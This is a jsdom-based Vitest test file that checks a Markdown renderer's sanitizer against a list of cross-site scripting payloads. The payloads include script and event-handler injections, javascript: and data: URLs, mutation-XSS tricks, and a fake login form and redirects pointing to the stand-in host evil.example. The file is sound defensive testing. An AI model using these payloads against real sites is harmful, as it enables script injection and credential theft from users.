// @vitest-environment jsdom
import { expect, test } from 'vitest';
import { renderMarkdown } from './render';

const texts = {
  copyCode: 'Copy',
  table: 'Table',
  taskDone: 'Done',
  taskOpen: 'To do',
  pdf: (name: string) => name,
  foreignPicture: (host: string, alt: string) => `${host} ${alt}`,
  foreignMedia: (host: string) => host,
};

const HOSTILE = [
  // Scripts.
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script/x>alert(1)</script >',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  // Event handlers.
  '<img src=x onerror=alert(1)>',
  '<img src=x oNeRrOr=alert(1)//',
  '<body onload=alert(1)><div onclick="alert(1)" onmouseover=alert(1)>x</div>',
  '<details open ontoggle=alert(1)>x</details>',
  '<a href="#" onfocus=alert(1) autofocus tabindex=0>x</a>',
  '![x](x"onerror="alert(1))',
  '[x](https://example.org "x\\" onmouseover=\\"alert(1)")',
  // Addresses.
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '<a href="javascript:alert(1)">b</a>',
  '<a href=" &#14; javascript:alert(1)">b</a>',
  '<a href="java&#10;script:alert(1)">b</a>',
  '<a href="&#106;avascript:alert(1)">b</a>',
  '<a href="vbscript:x">b</a> <a href="data:text/html,<script>alert(1)</script>">c</a>',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="data:text/html,x"> <video src="data:text/html,x"></video>',
  '<a href="blob:https://example.org/1">b</a> <a href="file:///etc/passwd">c</a>',
  // Other languages embedded in HTML.
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  // Elements that act, load something or imitate the site.
  '<style>body { display: none }</style><link rel=stylesheet href=//evil.example/x.css>',
  '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf"><applet code=x></applet>',
  '<form action=//evil.example><input name=password><button>Log in</button></form>',
  '<button form=x formaction=javascript:alert(1)>x</button>',
  '<base href=//evil.example/><meta http-equiv=refresh content="0;url=//evil.example">',
  '<dialog open>Log in again</dialog><div popover id=x>x</div><button popovertarget=x>x</button>',
  '<video src=/a.mp4 autoplay loop onplay=alert(1)></video><audio autoplay src=/a.mp3></audio>',
  '<video><source onerror=alert(1)><track src=x default></video>',
  '<marquee onstart=alert(1)>x</marquee><blink>x</blink>',
  '<div style="position:fixed;inset:0;z-index:9999;background:url(//evil.example/x)">x</div>',
  '<p style="width:expression(alert(1));-moz-binding:url(x);margin:-999px;text-indent:-999px">x</p>',
  '<div class="ui page modals dimmer visible active t-toast">x</div><a class="t-skip" href="/x">y</a>',
  '<img id=location name=cookie><a id=defaultView href=x>x</a><form id=x><input name=attributes></form>',
  '<div role=alert aria-live=assertive data-hotkey=slash data-autofocus contenteditable tabindex=5 accesskey=x>x</div>',
  '<p is=x-evil slot=x part=x nonce=x>x</p><x-evil onclick=alert(1)>x</x-evil>',
  // Formulas.
  String.raw`$\href{javascript:alert(1)}{x}$ $\url{javascript:alert(1)}$`,
  String.raw`$\htmlClass{t-toast}{x}$ $\htmlId{x}{y}$ $\htmlStyle{position:fixed}{x}$ $\htmlData{a=b}{x}$`,
  String.raw`$\includegraphics[width=9em]{https://evil.example/x.png}$`,
  '$\\text{<img src=x onerror=alert(1)>}$ $<script>alert(1)</script>$',
  String.raw`$\def\x{\x\x}\x$`,
  String.raw`$\gdef\a{\href{javascript:alert(1)}{x}}$ $\a$`,
  String.raw`$\rule{9999em}{9999em}$ $\kern{-9999em}x$`,
  '<img alt="$x$" src=x onerror=alert(1)> ![$x$" onerror="alert(1)](x "$y$")',
  '$$\n</annotation></semantics></math><img src=x onerror=alert(1)>\n$$',
  // Code.
  '```html"onmouseover="alert(1)\n<img src=x onerror=alert(1)>\n```',
  '`<img src=x onerror=alert(1)>`',
];

const FORBIDDEN_TAGS =
  'script, style, link, meta, base, iframe, object, embed, applet, form, input, select, textarea, template, dialog, marquee, noscript, xmp, track, x-evil';
const OWN_ATTRIBUTES =
  /^(on|form|srcdoc$|xlink:|id$|name$|autofocus$|autoplay$|loop$|popover|contenteditable$|accesskey$|nonce$|is$|slot$|part$|data-|action$)/i;

const tree = async (source: string): Promise<HTMLElement> => {
  const box = document.createElement('div');
  box.innerHTML = await renderMarkdown(source, texts);
  return box;
};

test.each(HOSTILE)('harmless: %s', async (source) => {
  const box = await tree(source);
  expect([...box.querySelectorAll(FORBIDDEN_TAGS)].map((each) => each.outerHTML)).toEqual([]);
  for (const element of box.querySelectorAll('*')) {
    const isDrawn = element.closest('.katex, .katex-display, .katex-error') !== null;
    for (const { name, value } of element.attributes) {
      expect(name, element.outerHTML).not.toMatch(OWN_ATTRIBUTES);
      if (/^(href|src|xlink:href|action)$/.test(name))
        expect(value).not.toMatch(/^\s*(javascript|vbscript|data:text|data:image\/svg|blob|file)/i);
      if (name === 'style') expect(value).not.toMatch(/url\(|fixed|absolute|expression|binding/i);
      if (name === 'class' && !isDrawn)
        expect(value).toMatch(
          /^(hljs|language-|t-fence|t-wide-table|t-task|ui small basic icon button t-copy-code|copy outline icon)/,
        );
      if (/^(role|aria-live|tabindex)$/.test(name) && !isDrawn)
        expect(`${name} ${value}`).toMatch(/^(role (region|img)|tabindex 0)$/);
    }
  }
});

test('what is clean stays the same when the browser reads it again', async () => {
  for (const source of HOSTILE) {
    const box = await tree(source);
    const again = document.createElement('div');
    again.innerHTML = box.innerHTML;
    expect(again.innerHTML).toBe(box.innerHTML);
  }
});

test('a text cannot bring a button of its own', async () => {
  const box = await tree('<button class="t-copy-code">x</button><div class="t-fence"><pre>a</pre></div>');
  expect(box.querySelectorAll('button')).toHaveLength(1);
  expect(box.querySelectorAll('.t-fence')).toHaveLength(1);
});

test('a formula takes no more room than it may', async () => {
  const sizes = [
    ...(await tree(String.raw`$\rule{9999em}{9999em}$`)).querySelectorAll<HTMLElement>('.katex-html [style]'),
  ]
    .flatMap((each) => [...each.getAttribute('style')!.matchAll(/([\d.]+)em/g)])
    .map(([, size]) => Number(size));
  expect(Math.max(...sizes)).toBeLessThanOrEqual(80);
});

test('a very deep text keeps its words', async () => {
  expect((await tree(`${'<div>'.repeat(300)}${'> '.repeat(300)}word`)).textContent).toContain('word');
});

test('harmless styles stay', async () => {
  const paragraph = (await tree('<p style="text-align: center; color: red">x</p>')).querySelector('p');
  expect(paragraph?.getAttribute('style')).toBe('text-align: center');
});
